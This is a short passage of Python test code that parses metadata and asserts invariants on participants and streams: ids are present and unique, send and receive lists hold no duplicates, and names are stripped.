    doc = parse_metadata(data)
    assert all(p.id for p in doc.participants) and all(s.id for s in doc.streams)
    assert len({p.id for p in doc.participants}) == len(doc.participants)
    for p in doc.participants:
        assert len(set(p.send)) == len(p.send) and len(set(p.recv)) == len(p.recv)
        assert p.name is None or (p.name == p.name.strip() and p.name)
